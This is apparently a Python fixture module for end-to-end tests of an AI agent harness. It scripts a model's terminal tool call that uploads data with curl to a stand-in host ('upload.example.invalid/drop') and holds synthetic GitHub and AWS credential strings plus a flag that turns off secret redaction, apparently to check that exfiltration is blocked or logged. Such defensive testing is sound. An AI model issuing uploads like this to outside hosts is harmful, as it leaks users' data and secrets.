"""What the scripted model does in the e2e tests, and the values it carries (all synthetic)."""

from __future__ import annotations

TOKEN = "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"
AWS_KEY = "AKIAQYLPMN5HFIQR7XYZ"
UPLOAD_HOST = "upload.example.invalid"
TABLE = (
    "| Town | Dental | Physio | Total |\n"
    "|---|---|---|---|\n"
    "| Peace Valley | 7 | 3 | 10 |\n"
    "| Riverside | 152 | 29 | 181 |\n"
    "| Hillcrest | 98 | 44 | 142 |\n"
    "| Total | 257 | 76 | 333 |\n"
)
RAW_ROW = "| Peace Valley | 7 | 3 | 10 |"
NO_REDACT = {"HERMES_REDACT_SECRETS": "false"}


def terminal(command: str) -> dict:
    return {"tool_calls": [{"name": "terminal", "arguments": {"command": command}}]}


def upload(work, tag: str, host: str = UPLOAD_HOST, extra: str = "") -> str:
    """An upload that really runs if allowed (and fails to connect), then leaves a marker."""
    scheme = "http" if host == "127.0.0.1" else "https"
    return f"curl -s -m 3 {extra}-d 'report=quarterly' {scheme}://{host}/drop; echo ran-{tag} >> {work}/executed.log"


def executed(home) -> str:
    p = home.work / "executed.log"
    return p.read_text() if p.exists() else ""
